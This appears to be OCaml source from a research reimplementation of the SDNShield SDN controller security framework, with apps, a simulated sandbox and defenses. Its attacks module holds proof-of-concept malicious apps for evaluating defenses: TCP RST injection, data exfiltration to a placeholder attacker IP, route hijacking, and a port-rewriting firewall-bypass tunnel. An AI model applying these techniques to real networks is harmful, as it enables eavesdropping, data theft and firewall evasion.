          first and executed only if every one passes. *)
}

type t = {
  name : string;
  subscriptions : Api.event_kind list;
  uses : Api.capability list;
      (** Capabilities the app's code consumes — verified against the
          granted tokens at load time. *)
  init : ctx -> unit;
  handle : ctx -> Events.t -> unit;
}

val make :
  ?subscriptions:Api.event_kind list ->
  ?uses:Api.capability list ->
  ?init:(ctx -> unit) ->
  ?handle:(ctx -> Events.t -> unit) ->
  string ->
  t

val subscribes : t -> Api.event_kind -> bool
