(* The controller application interface.

   An app is a name, the event kinds it listens to, an [init] hook and
   an event handler.  Handlers act through the [ctx] they are given —
   every capability flows through [ctx.call], which is where the
   permission engine sits.  Apps never see kernel internals, the data
   isolation property of the paper's thread-container design. *)

type ctx = {
  app_name : string;
  call : Api.call -> Api.result;
  transaction : Api.call list -> (Api.result list, int * string) result;
      (** Atomic call group: all calls are permission-checked first and
          executed only if every one passes (§VI-B2). *)
}

type t = {
  name : string;
  subscriptions : Api.event_kind list;
  uses : Api.capability list;
      (** Capabilities the app's code consumes — the "APIs the app
          imports", verified against the granted tokens at load time
          (§VIII-B's OSGi-level access control). *)
  init : ctx -> unit;
  handle : ctx -> Events.t -> unit;
}

let make ?(subscriptions = []) ?(uses = []) ?(init = fun _ -> ())
    ?(handle = fun _ _ -> ()) name =
  { name; subscriptions; uses; init; handle }

let subscribes app kind =
  List.exists
    (fun k ->
      match (k, kind) with
      | Api.E_app a, Api.E_app b -> a = b
      | a, b -> a = b)
    app.subscriptions
