(* Latency/throughput sample collection with percentile summaries.

   The end-to-end experiments (Figures 6–8) report medians with 10/90
   percentile error bars; this module computes exactly those. *)

type t = {
  mutable samples : float list;  (** Seconds. *)
  mutable count : int;
  mutex : Mutex.t;
}

let create () = { samples = []; count = 0; mutex = Mutex.create () }

let record t v =
  Mutex.lock t.mutex;
  t.samples <- v :: t.samples;
  t.count <- t.count + 1;
  Mutex.unlock t.mutex

let count t = t.count

let samples t =
  Mutex.lock t.mutex;
  let s = t.samples in
  Mutex.unlock t.mutex;
  s

(** [percentile p sorted] with [sorted] ascending and [p] in [0,100],
    using nearest-rank interpolation. *)
let percentile p sorted =
  match sorted with
  | [] -> nan
  | _ ->
    let arr = Array.of_list sorted in
    let n = Array.length arr in
    let rank = p /. 100. *. float_of_int (n - 1) in
    let lo = int_of_float (floor rank) in
    let hi = int_of_float (ceil rank) in
    if lo = hi then arr.(lo)
    else
      let frac = rank -. float_of_int lo in
      (arr.(lo) *. (1. -. frac)) +. (arr.(hi) *. frac)

type summary = {
  n : int;
  median : float;
  p10 : float;
  p90 : float;
  mean : float;
  min : float;
  max : float;
}

let summarize t =
  let s = List.sort compare (samples t) in
  match s with
  | [] -> { n = 0; median = nan; p10 = nan; p90 = nan; mean = nan; min = nan; max = nan }
  | _ ->
    let n = List.length s in
    { n;
      median = percentile 50. s;
      p10 = percentile 10. s;
      p90 = percentile 90. s;
      mean = List.fold_left ( +. ) 0. s /. float_of_int n;
      min = List.hd s;
      max = List.nth s (n - 1) }

let summarize_list values =
  let t = create () in
  List.iter (record t) values;
  summarize t

(** Wall-clock an action, recording the elapsed time. *)
let time t f =
  let start = Unix.gettimeofday () in
  let r = f () in
  record t (Unix.gettimeofday () -. start);
  r

let pp_summary ppf s =
  Fmt.pf ppf "n=%d median=%.1fus p10=%.1fus p90=%.1fus" s.n (s.median *. 1e6)
    (s.p10 *. 1e6) (s.p90 *. 1e6)
