(* Controller events dispatched to app listeners. *)

open Shield_openflow
open Shield_openflow.Types

type t =
  | Packet_in of Message.packet_in
  | Flow_removed of { dpid : dpid; match_ : Match_fields.t; cookie : int }
  | Topology_changed of Api.topo_change
  | Error_event of Message.error_kind
  | Stats_update of Stats.reply
  | App_published of { source : string; tag : string; payload : string }
      (** Inter-app publication, e.g. ALTO cost-map updates consumed by
          the traffic-engineering app. *)

(** The permission-relevant kind of an event, matched against
    [Receive_event] permission checks. *)
let kind = function
  | Packet_in _ -> Api.E_packet_in
  | Flow_removed _ -> Api.E_flow
  | Topology_changed _ -> Api.E_topology
  | Error_event _ -> Api.E_error
  | Stats_update _ -> Api.E_stats
  | App_published { tag; _ } -> Api.E_app tag

let pp ppf = function
  | Packet_in pi -> Fmt.pf ppf "ev:packet-in s%d p%d" pi.dpid pi.in_port
  | Flow_removed { dpid; cookie; _ } ->
    Fmt.pf ppf "ev:flow-removed s%d cookie=%d" dpid cookie
  | Topology_changed _ -> Fmt.string ppf "ev:topology-changed"
  | Error_event e -> Fmt.pf ppf "ev:error %a" Message.pp_error e
  | Stats_update _ -> Fmt.string ppf "ev:stats"
  | App_published { source; tag; _ } ->
    Fmt.pf ppf "ev:app-published %s/%s" source tag
