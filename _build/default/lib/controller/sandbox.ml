(* Simulated host operating system + reference monitor audit log.

   Plays the role of the Java SecurityManager choke point: every host
   system call an app attempts is recorded here, with its outcome.  The
   "outside world" is a list of recorded network connections — the
   observable the information-leak PoC and its test assert on. *)

open Shield_openflow.Types

type net_record = {
  app : string;
  dst : ipv4;
  dst_port : int;
  payload : string;
}

type file_record = { app : string; path : string; write : bool }
type proc_record = { app : string; command : string }

type audit_entry = {
  app_name : string;
  action : string;
  allowed : bool;
  detail : string;
}

type t = {
  mutable net_log : net_record list;
  mutable file_log : file_record list;
  mutable proc_log : proc_record list;
  mutable audit : audit_entry list;
  mutex : Mutex.t;
}

let create () =
  { net_log = []; file_log = []; proc_log = []; audit = [];
    mutex = Mutex.create () }

let with_lock t f =
  Mutex.lock t.mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mutex) f

let record_audit t ~app ~action ~allowed ~detail =
  with_lock t (fun () ->
      t.audit <- { app_name = app; action; allowed; detail } :: t.audit)

(** Execute an (already permission-approved) syscall for [app]. *)
let execute t ~app (sc : Api.syscall) : Api.result =
  with_lock t (fun () ->
      match sc with
      | Api.Net_connect { dst; dst_port; payload } ->
        t.net_log <- { app; dst; dst_port; payload } :: t.net_log;
        Api.Done
      | Api.File_open { path; write } ->
        t.file_log <- { app; path; write } :: t.file_log;
        Api.Done
      | Api.Spawn_process command ->
        t.proc_log <- { app; command } :: t.proc_log;
        Api.Done)

(** Connections successfully made by [app] — what actually leaked. *)
let connections_by t ~app =
  with_lock t (fun () ->
      List.filter (fun (r : net_record) -> r.app = app) t.net_log)

let denied_actions t ~app =
  with_lock t (fun () ->
      List.filter (fun e -> e.app_name = app && not e.allowed) t.audit)

let audit_log t = with_lock t (fun () -> List.rev t.audit)
