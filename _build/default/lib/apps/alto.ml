(* ALTO service app + traffic-engineering consumer — the paper's second
   evaluation scenario (§IX-A).

   The ALTO app provides "real-time topology and routing cost
   information to upper-layer apps": here it reads the topology,
   computes a hop-count cost map between host pairs, and publishes it
   on the "alto" inter-app channel.  The TE app "listens to the ALTO
   app events and reacts with flow-mods that change the routing paths":
   it parses the cost map and (re)pins routes for the costliest pairs.

   In this scenario SDNShield checks permissions at four points, as the
   paper enumerates: listener notification to the ALTO app, the data
   publication, the event notification to the TE app, and the TE app's
   rule issuance. *)

open Shield_openflow
open Shield_controller
open Shield_net

let channel = "alto"

(* Cost map wire format: "h1>h2=3;h1>h3=2;..." *)
let encode_cost_map entries =
  String.concat ";"
    (List.map (fun (a, b, c) -> Printf.sprintf "%s>%s=%d" a b c) entries)

let decode_cost_map payload =
  if payload = "" then []
  else
    String.split_on_char ';' payload
    |> List.filter_map (fun item ->
           match String.index_opt item '>' with
           | None -> None
           | Some i -> (
             match String.index_opt item '=' with
             | None -> None
             | Some j when j > i ->
               let a = String.sub item 0 i in
               let b = String.sub item (i + 1) (j - i - 1) in
               let c = int_of_string_opt (String.sub item (j + 1) (String.length item - j - 1)) in
               Option.map (fun c -> (a, b, c)) c
             | Some _ -> None))

(* The ALTO provider app ---------------------------------------------------- *)

type alto = { app : App.t; updates_published : int ref }

let alto_manifest_src =
  "PERM visible_topology\n\
   PERM topology_event\n\
   PERM read_statistics LIMITING PORT_LEVEL OR SWITCH_LEVEL\n"

let topo_of_view (view : Api.topology_view) =
  let topo = Topology.create () in
  List.iter (fun d -> Topology.add_switch topo d) view.Api.switches;
  List.iter (fun (a, b) -> Topology.add_link topo ~src:a ~dst:b) view.Api.links;
  List.iter
    (fun (h : Topology.host) ->
      Topology.add_host topo ~name:h.Topology.name ~mac:h.Topology.mac
        ~ip:h.Topology.ip ~attachment:h.Topology.attachment)
    view.Api.hosts;
  topo

let cost_map_of_view (view : Api.topology_view) =
  let topo = topo_of_view view in
  let hosts = view.Api.hosts in
  List.concat_map
    (fun (a : Topology.host) ->
      List.filter_map
        (fun (b : Topology.host) ->
          if a.Topology.name >= b.Topology.name then None
          else
            Topology.shortest_path topo ~src:a.Topology.attachment.Topology.dpid
              ~dst:b.Topology.attachment.Topology.dpid
            |> Option.map (fun path ->
                   (a.Topology.name, b.Topology.name, List.length path)))
        hosts)
    hosts

let create_alto ?(name = "alto") () : alto =
  let updates_published = ref 0 in
  let publish (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view ->
      let payload = encode_cost_map (cost_map_of_view view) in
      incr updates_published;
      ignore (ctx.App.call (Api.Publish_event { tag = channel; payload }))
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_topology; Api.E_app "alto-poll" ]
      ~init:publish
      ~handle:(fun ctx -> function
        | Events.Topology_changed _ -> publish ctx
        | Events.App_published { tag = "alto-poll"; _ } -> publish ctx
        | _ -> ())
      name
  in
  { app; updates_published }

(* The traffic-engineering consumer app ------------------------------------- *)

type te = { app : App.t; reroutes : int ref }

let te_manifest_src =
  "PERM visible_topology\n\
   PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n"

(** Reroute the [max_pairs] costliest host pairs: pin the (current
    shortest) path for each with TE-priority rules. *)
let create_te ?(name = "te") ?(max_pairs = 4) () : te =
  let reroutes = ref 0 in
  let handle (ctx : App.ctx) = function
    | Events.App_published { tag; payload; _ } when tag = channel -> (
      let cost_map = decode_cost_map payload in
      let costly =
        List.sort (fun (_, _, a) (_, _, b) -> compare b a) cost_map
        |> List.filteri (fun i _ -> i < max_pairs)
      in
      match ctx.App.call Api.Read_topology with
      | Api.Topology_of view ->
        let topo = topo_of_view view in
        List.iter
          (fun (ha, hb, _cost) ->
            match (Topology.host_by_name topo ha, Topology.host_by_name topo hb)
            with
            | Some a, Some b -> (
              match
                Topology.shortest_path topo
                  ~src:a.Topology.attachment.Topology.dpid
                  ~dst:b.Topology.attachment.Topology.dpid
              with
              | None -> ()
              | Some path ->
                let hops = Topology.path_hops topo path in
                List.iter
                  (fun (_, sw, out) ->
                    let port =
                      match out with
                      | Some p -> p
                      | None -> b.Topology.attachment.Topology.port
                    in
                    let fm =
                      Flow_mod.add ~priority:150
                        ~match_:
                          (Match_fields.make ~dl_type:Types.Eth_ip
                             ~nw_src:(Match_fields.exact_ip a.Topology.ip)
                             ~nw_dst:(Match_fields.exact_ip b.Topology.ip)
                             ())
                        ~actions:[ Action.Output port ] ()
                    in
                    incr reroutes;
                    ignore (ctx.App.call (Api.Install_flow (sw, fm))))
                  hops)
            | _ -> ())
          costly
      | _ -> ())
    | _ -> ()
  in
  { app = App.make ~subscriptions:[ Api.E_app channel ] ~handle name; reroutes }
