(* The four proof-of-concept malicious apps of §IX-B1, one per attack
   class of the threat model (§II).  Each records enough state for the
   harness to decide objectively whether the attack succeeded, both on
   the unprotected baseline controller and under SDNShield.

   1. [rst_injector]   — Class 1, intrusion to data plane: watches
      packet-ins and injects TCP RST into every active HTTP session.
   2. [info_leaker]    — Class 2, leakage of sensitive information:
      collects topology and statistics and posts them to an outside
      attacker over the host network.
   3. [route_hijacker] — Class 3, manipulation of rules: redirects the
      existing route between two hosts through an attacker host.
   4. [tunnel_app]     — Class 4, attacking other apps: establishes a
      dynamic-flow tunnel through a port-80-only firewall by rewriting
      ports at both ends. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Shield_net

let attack_tick = "attack-tick"

let tick_event =
  Events.App_published { source = "env"; tag = attack_tick; payload = "" }

(* 1. TCP RST injection ------------------------------------------------------ *)

type rst_injector = {
  app : App.t;
  injections_attempted : int ref;
  injections_denied : int ref;
}

let rst_injector ?(name = "rst_injector") () : rst_injector =
  let injections_attempted = ref 0 and injections_denied = ref 0 in
  let handle (ctx : App.ctx) = function
    | Events.Packet_in pi -> (
      let pkt = pi.Message.packet in
      match pkt.Packet.tp with
      | Some { Packet.tp_dst = 80; _ } -> (
        match Packet.rst_for pkt with
        | Some rst -> (
          incr injections_attempted;
          (* Arbitrary content, NOT a replay of the packet-in. *)
          match
            ctx.App.call
              (Api.Send_packet_out
                 { dpid = pi.Message.dpid; port = pi.Message.in_port;
                   packet = rst; from_pkt_in = false })
          with
          | Api.Denied _ -> incr injections_denied
          | _ -> ())
        | None -> ())
      | _ -> ())
    | _ -> ()
  in
  { app = App.make ~subscriptions:[ Api.E_packet_in ] ~handle name;
    injections_attempted; injections_denied }

(** Did an RST from [app] actually reach a host? *)
let rst_delivered kernel ~app =
  List.exists
    (fun (who, (d : Dataplane.delivery)) -> who = app && Packet.is_rst d.packet)
    (Kernel.deliveries kernel)

(* 2. Information leakage ----------------------------------------------------- *)

type info_leaker = {
  app : App.t;
  attacker_ip : ipv4;
  leaks_attempted : int ref;
}

let info_leaker ?(name = "info_leaker")
    ?(attacker_ip = Types.ipv4_of_string "66.66.66.66") () : info_leaker =
  let leaks_attempted = ref 0 in
  let leak (ctx : App.ctx) =
    let topo =
      match ctx.App.call Api.Read_topology with
      | Api.Topology_of view ->
        Fmt.str "topo:%d-switches;links:%d"
          (List.length view.Api.switches)
          (List.length view.Api.links)
      | _ -> "topo:denied"
    in
    let stats =
      match ctx.App.call (Api.Read_stats (Stats.request Stats.Port_level)) with
      | Api.Stats_result _ -> "stats:ok"
      | _ -> "stats:denied"
    in
    incr leaks_attempted;
    ignore
      (ctx.App.call
         (Api.Syscall
            (Api.Net_connect
               { dst = attacker_ip; dst_port = 80;
                 payload = "POST /exfil " ^ topo ^ " " ^ stats })))
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> leak ctx
        | _ -> ())
      name
  in
  { app; attacker_ip; leaks_attempted }

(** Did data reach the attacker's collector? *)
let leak_succeeded sandbox ~app ~attacker_ip =
  List.exists
    (fun (r : Sandbox.net_record) -> r.dst = attacker_ip)
    (Sandbox.connections_by sandbox ~app)

(* 3. Route hijacking --------------------------------------------------------- *)

type route_hijacker = { app : App.t; rules_attempted : int ref }

(** Redirect traffic destined to [victim_dst] so it is delivered to the
    attacker-controlled host [mitm] instead: at every switch, send
    matching packets one hop towards [mitm]'s switch; at that switch,
    deliver to [mitm]'s port.  Priority 500 shadows the routing app's
    rules — exactly the "manipulation of rules" pattern. *)
let route_hijacker ?(name = "route_hijacker") ~victim_dst_ip ~mitm_host () :
    route_hijacker =
  let rules_attempted = ref 0 in
  let attack (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> (
      let topo = Alto.topo_of_view view in
      match Topology.host_by_name topo mitm_host with
      | None -> ()
      | Some mitm ->
        let mitm_sw = mitm.Topology.attachment.Topology.dpid in
        List.iter
          (fun sw ->
            let out_port =
              if sw = mitm_sw then Some mitm.Topology.attachment.Topology.port
              else
                match Topology.shortest_path topo ~src:sw ~dst:mitm_sw with
                | Some (_ :: next :: _) ->
                  Option.map fst
                    (Topology.link_ports_between topo ~src:sw ~dst:next)
                | _ -> None
            in
            match out_port with
            | None -> ()
            | Some port ->
              incr rules_attempted;
              ignore
                (ctx.App.call
                   (Api.Install_flow
                      ( sw,
                        Flow_mod.add ~priority:500
                          ~match_:
                            (Match_fields.make ~dl_type:Types.Eth_ip
                               ~nw_dst:(Match_fields.exact_ip victim_dst_ip)
                               ())
                          ~actions:[ Action.Output port ] () ))))
          view.Api.switches)
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> attack ctx
        | _ -> ())
      name
  in
  { app; rules_attempted }

(** Is traffic from [src] to [dst] now delivered to [mitm] instead? *)
let hijack_succeeded dataplane ~src ~dst ~mitm =
  match Dataplane.probe dataplane ~src ~dst () with
  | Dataplane.Delivered_to (who, _) -> who = mitm.Topology.name
  | _ -> false

(* 4. Dynamic-flow tunneling --------------------------------------------------- *)

type tunnel_app = { app : App.t; rules_attempted : int ref }

(** Smuggle TCP/[smuggled_port] traffic from [src_host] to [dst_host]
    through a port-80-only firewall: rewrite the destination port to 80
    at the ingress switch and back to [smuggled_port] at the egress
    switch — the dynamic-flow-tunnelling evasion of [16]. *)
let tunnel_app ?(name = "tunnel_app") ?(smuggled_port = 23) ~src_host ~dst_host
    () : tunnel_app =
  let rules_attempted = ref 0 in
  let attack (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> (
      let topo = Alto.topo_of_view view in
      match
        (Topology.host_by_name topo src_host, Topology.host_by_name topo dst_host)
      with
      | Some src, Some dst ->
        let src_sw = src.Topology.attachment.Topology.dpid in
        let dst_sw = dst.Topology.attachment.Topology.dpid in
        let towards_dst =
          if src_sw = dst_sw then Some dst.Topology.attachment.Topology.port
          else
            match Topology.shortest_path topo ~src:src_sw ~dst:dst_sw with
            | Some (_ :: next :: _) ->
              Option.map fst (Topology.link_ports_between topo ~src:src_sw ~dst:next)
            | _ -> None
        in
        (match towards_dst with
        | None -> ()
        | Some port ->
          (* Ingress: disguise the smuggled port as HTTP. *)
          incr rules_attempted;
          ignore
            (ctx.App.call
               (Api.Install_flow
                  ( src_sw,
                    Flow_mod.add ~priority:500
                      ~match_:
                        (Match_fields.make ~dl_type:Types.Eth_ip
                           ~nw_proto:Types.Proto_tcp
                           ~nw_dst:(Match_fields.exact_ip dst.Topology.ip)
                           ~tp_dst:smuggled_port ())
                      ~actions:
                        [ Action.Set (Action.Set_tp_dst 80);
                          Action.Output port ]
                      () ))));
        (* Egress: restore the smuggled port and deliver. *)
        incr rules_attempted;
        ignore
          (ctx.App.call
             (Api.Install_flow
                ( dst_sw,
                  Flow_mod.add ~priority:500
                    ~match_:
                      (Match_fields.make ~dl_type:Types.Eth_ip
                         ~nw_proto:Types.Proto_tcp
                         ~nw_src:(Match_fields.exact_ip src.Topology.ip)
                         ~nw_dst:(Match_fields.exact_ip dst.Topology.ip)
                         ~tp_dst:80 ())
                    ~actions:
                      [ Action.Set (Action.Set_tp_dst smuggled_port);
                        Action.Output dst.Topology.attachment.Topology.port ]
                    () )))
      | _ -> ())
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> attack ctx
        | _ -> ())
      name
  in
  { app; rules_attempted }

(** Does TCP traffic to the smuggled port now traverse the firewall and
    reach [dst] carrying the smuggled destination port? *)
let tunnel_succeeded dataplane ~(src : Topology.host) ~(dst : Topology.host)
    ?(smuggled_port = 23) () =
  let pkt =
    Packet.tcp ~src:src.Topology.mac ~dst:dst.Topology.mac
      ~nw_src:src.Topology.ip ~nw_dst:dst.Topology.ip ~tp_src:5555
      ~tp_dst:smuggled_port ()
  in
  let r = Dataplane.inject_from_host dataplane src pkt in
  List.exists
    (fun (d : Dataplane.delivery) ->
      d.host.Topology.name = dst.Topology.name
      &&
      match d.packet.Packet.tp with
      | Some { Packet.tp_dst; _ } -> tp_dst = smuggled_port
      | None -> false)
    r.Dataplane.delivered
