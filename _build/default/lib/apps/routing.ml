(* Proactive shortest-path routing.

   On startup (and on every topology change) reads the topology and
   installs, for every host, per-switch rules forwarding IP traffic for
   that host's address along the shortest path, plus an ARP-flood rule
   per switch so address resolution keeps working.  This is the benign
   behaviour of the paper's Scenario-2 routing app. *)

open Shield_openflow
open Shield_controller
open Shield_net

type t = { app : App.t; rules_installed : int ref }

(** Scenario 2's permission manifest (§VII): topology visibility, flow
    events, packet-out, and insert_flow limited to pure forwarding on
    its own flows. *)
let manifest_src =
  "PERM visible_topology\n\
   PERM topology_event\n\
   PERM flow_event\n\
   PERM send_pkt_out\n\
   PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n"

let ip_match_for (h : Topology.host) =
  Match_fields.make ~dl_type:Types.Eth_ip
    ~nw_dst:(Match_fields.exact_ip h.Topology.ip) ()

let install_routes (ctx : App.ctx) (view : Api.topology_view) rules_installed =
  (* ARP flood so hosts can resolve each other. *)
  List.iter
    (fun dpid ->
      let fm =
        Flow_mod.add ~priority:50
          ~match_:(Match_fields.make ~dl_type:Types.Eth_arp ())
          ~actions:[ Action.Flood ] ()
      in
      incr rules_installed;
      ignore (ctx.App.call (Api.Install_flow (dpid, fm))))
    view.Api.switches;
  (* Per-destination-host shortest-path tree. *)
  let topo = Topology.create () in
  List.iter (fun (a, b) -> Topology.add_link topo ~src:a ~dst:b) view.Api.links;
  List.iter (fun d -> Topology.add_switch topo d) view.Api.switches;
  List.iter
    (fun (h : Topology.host) ->
      Topology.add_host topo ~name:h.Topology.name ~mac:h.Topology.mac
        ~ip:h.Topology.ip ~attachment:h.Topology.attachment)
    view.Api.hosts;
  List.iter
    (fun (dst : Topology.host) ->
      let dst_sw = dst.Topology.attachment.Topology.dpid in
      List.iter
        (fun sw ->
          let out_port =
            if sw = dst_sw then Some dst.Topology.attachment.Topology.port
            else
              match Topology.shortest_path topo ~src:sw ~dst:dst_sw with
              | Some (_ :: next :: _) ->
                Option.map fst (Topology.link_ports_between topo ~src:sw ~dst:next)
              | _ -> None
          in
          match out_port with
          | None -> ()
          | Some port ->
            let fm =
              Flow_mod.add ~priority:100 ~match_:(ip_match_for dst)
                ~actions:[ Action.Output port ] ()
            in
            incr rules_installed;
            ignore (ctx.App.call (Api.Install_flow (sw, fm))))
        view.Api.switches)
    view.Api.hosts

let create ?(name = "routing") () : t =
  let rules_installed = ref 0 in
  let refresh (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> install_routes ctx view rules_installed
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_topology ]
      ~init:refresh
      ~handle:(fun ctx -> function
        | Events.Topology_changed _ -> refresh ctx
        | _ -> ())
      name
  in
  { app; rules_installed }

let app t = t.app
