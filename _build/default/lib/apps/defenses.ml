(* The comparison defenses of Table I.

   The paper compares SDNShield's attack coverage against two existing
   approach families:

   - *Traffic isolation* (network slicing, FlowVisor-style): each app
     is confined to a slice of flowspace/switches.  It stops
     cross-slice attacks but "delivers no security to apps deployed on
     one network slice that collaboratively process the same set of
     traffic" — an attacker sharing the victim's slice is unconstrained.

   - *Network state analysis* (header-space/veriflow-style): verifies
     global invariants over installed rules.  It can flag rule
     manipulation (route deviations, header-rewrite tunnels) but cannot
     see traffic sniffing/injection or host-side information leakage.

   Both are implemented here at the fidelity Table I needs: slicing as
   an [Api.checker], state analysis as a rule auditor over the
   simulated data plane. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Shield_net

(* Traffic isolation ---------------------------------------------------------- *)

type slice = {
  switches : int list;  (** Switches the slice spans; [] = all. *)
  flowspace : Match_fields.t;  (** Flowspace the app may program. *)
}

let full_slice = { switches = []; flowspace = Match_fields.wildcard_all }

(** A slicing reference monitor: write-type calls must stay within the
    slice's switches and flowspace.  Note what it does NOT check:
    reads, events, payload access, and host syscalls all pass — slicing
    isolates slices from each other, not apps within a slice. *)
let slicing_checker (slice : slice) : Api.checker =
  let switch_ok d = slice.switches = [] || List.mem d slice.switches in
  let check (call : Api.call) : Api.decision =
    match call with
    | Api.Install_flow (d, fm) ->
      if not (switch_ok d) then Api.Deny "slicing: switch outside slice"
      else if
        not
          (Match_fields.subsumes ~outer:slice.flowspace
             ~inner:fm.Flow_mod.match_)
      then Api.Deny "slicing: flowspace violation"
      else Api.Allow
    | Api.Send_packet_out { dpid; _ } | Api.Modify_topology (Api.Add_switch dpid)
    | Api.Modify_topology (Api.Remove_switch dpid) ->
      if switch_ok dpid then Api.Allow else Api.Deny "slicing: switch outside slice"
    | _ -> Api.Allow
  in
  { Api.allow_all with
    check;
    check_transaction =
      (fun calls ->
        let rec go i = function
          | [] -> Ok ()
          | c :: rest -> (
            match check c with
            | Api.Allow -> go (i + 1) rest
            | Api.Deny why -> Error (i, why))
        in
        go 0 calls) }

(* Network state analysis ------------------------------------------------------ *)

type invariant_violation = {
  dpid : dpid;
  kind : [ `Header_rewrite_pair | `Shadowing | `Blackhole ];
  detail : string;
}

(** Audit the installed rules for classic control-plane-attack
    signatures:
    - [`Header_rewrite_pair]: complementary port/address rewrites at
      two switches — the dynamic-flow-tunnel signature;
    - [`Shadowing]: a rule from one issuer overriding (higher priority,
      overlapping match) a rule from another issuer;
    - [`Blackhole]: a high-priority rule dropping traffic another rule
      would have forwarded. *)
let analyze_rules (dp : Dataplane.t) : invariant_violation list =
  let tables =
    List.map
      (fun d -> (d, Flow_table.entries (Dataplane.switch dp d).Switch.table))
      (Topology.switches dp.Dataplane.topo)
  in
  let rewrites =
    List.concat_map
      (fun (d, entries) ->
        List.filter_map
          (fun (e : Flow_table.entry) ->
            let sets =
              List.filter_map
                (function Action.Set f -> Some f | _ -> None)
                e.actions
            in
            if sets = [] then None else Some (d, e, sets))
          entries)
      tables
  in
  let rewrite_pairs =
    (* A set-field at one switch whose inverse field appears at another:
       the tunnel signature. *)
    List.concat_map
      (fun (d1, (e1 : Flow_table.entry), sets1) ->
        List.filter_map
          (fun (d2, (_e2 : Flow_table.entry), sets2) ->
            if d1 >= d2 then None
            else if
              List.exists
                (fun s1 ->
                  List.exists
                    (fun s2 ->
                      Action.set_field_name s1 = Action.set_field_name s2
                      && s1 <> s2)
                    sets2)
                sets1
            then
              Some
                { dpid = d1; kind = `Header_rewrite_pair;
                  detail =
                    Fmt.str "complementary rewrites at s%d/s%d (cookies %d,%d)"
                      d1 d2 e1.cookie e1.cookie }
            else None)
          rewrites)
      rewrites
  in
  let shadowing =
    List.concat_map
      (fun (d, entries) ->
        List.concat_map
          (fun (hi : Flow_table.entry) ->
            List.filter_map
              (fun (lo : Flow_table.entry) ->
                if
                  hi.priority > lo.priority
                  && hi.cookie <> lo.cookie && lo.cookie <> 0
                  && Match_fields.compatible hi.match_ lo.match_
                then
                  Some
                    { dpid = d; kind = `Shadowing;
                      detail =
                        Fmt.str
                          "cookie %d rule (prio %d) shadows cookie %d rule \
                           (prio %d)"
                          hi.cookie hi.priority lo.cookie lo.priority }
                else None)
              entries)
          entries)
      tables
  in
  let blackholes =
    List.concat_map
      (fun (d, entries) ->
        List.concat_map
          (fun (hi : Flow_table.entry) ->
            if hi.actions <> [] then []
            else
              List.filter_map
                (fun (lo : Flow_table.entry) ->
                  if
                    hi.priority > lo.priority && hi.cookie <> lo.cookie
                    && Action.forwards lo.actions
                    && Match_fields.compatible hi.match_ lo.match_
                  then
                    Some
                      { dpid = d; kind = `Blackhole;
                        detail =
                          Fmt.str "drop rule (cookie %d) blackholes cookie %d"
                            hi.cookie lo.cookie }
                  else None)
                entries)
          entries)
      tables
  in
  rewrite_pairs @ shadowing @ blackholes

let has_violation kind violations =
  List.exists (fun v -> v.kind = kind) violations
