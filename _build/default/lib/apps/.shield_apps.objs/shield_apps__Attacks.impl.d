lib/apps/attacks.ml: Action Alto Api App Dataplane Events Flow_mod Fmt Kernel List Match_fields Message Option Packet Sandbox Shield_controller Shield_net Shield_openflow Stats Topology Types
