lib/apps/defenses.ml: Action Api Dataplane Flow_mod Flow_table Fmt List Match_fields Shield_controller Shield_net Shield_openflow Switch Topology
