lib/apps/firewall.ml: Action Alto Api App Events Flow_mod List Match_fields Option Shield_controller Shield_net Shield_openflow Topology Types
