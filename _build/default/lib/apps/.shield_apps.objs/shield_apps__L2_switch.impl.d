lib/apps/l2_switch.ml: Action Api App Events Flow_mod Hashtbl Match_fields Message Packet Shield_controller Shield_openflow
