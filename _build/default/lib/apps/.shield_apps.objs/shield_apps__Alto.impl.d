lib/apps/alto.ml: Action Api App Events Flow_mod List Match_fields Option Printf Shield_controller Shield_net Shield_openflow String Topology Types
