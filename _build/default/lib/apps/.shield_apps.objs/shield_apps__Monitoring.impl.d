lib/apps/monitoring.ml: Api App Events Fmt List Printf Shield_controller Shield_openflow Stats String
