(* Security app: a port-80-only firewall.

   Installs explicit forwarding paths for TCP/80 between all host pairs
   and a low-priority catch-all drop on every switch, so only HTTP (and
   ARP, needed for resolution) traverses the network.  This is the
   security app the dynamic-flow-tunneling attack (§II Class 4, [16])
   tries to bypass. *)

open Shield_openflow
open Shield_controller
open Shield_net

type t = { app : App.t; rules_installed : int ref }

let manifest_src =
  "PERM visible_topology\n\
   PERM topology_event\n\
   PERM insert_flow\n\
   PERM delete_flow LIMITING OWN_FLOWS\n"

let allowed_port = 80

let install (ctx : App.ctx) (view : Api.topology_view) rules_installed =
  let topo = Alto.topo_of_view view in
  let put dpid fm =
    incr rules_installed;
    ignore (ctx.App.call (Api.Install_flow (dpid, fm)))
  in
  List.iter
    (fun dpid ->
      (* Catch-all drop: anything without a more specific rule dies. *)
      put dpid
        (Flow_mod.add ~priority:1 ~match_:Match_fields.wildcard_all ~actions:[] ());
      (* ARP still floods, or nothing ever resolves. *)
      put dpid
        (Flow_mod.add ~priority:60
           ~match_:(Match_fields.make ~dl_type:Types.Eth_arp ())
           ~actions:[ Action.Flood ] ()))
    view.Api.switches;
  (* HTTP paths between every host pair. *)
  List.iter
    (fun (dst : Topology.host) ->
      let dst_sw = dst.Topology.attachment.Topology.dpid in
      List.iter
        (fun sw ->
          let out_port =
            if sw = dst_sw then Some dst.Topology.attachment.Topology.port
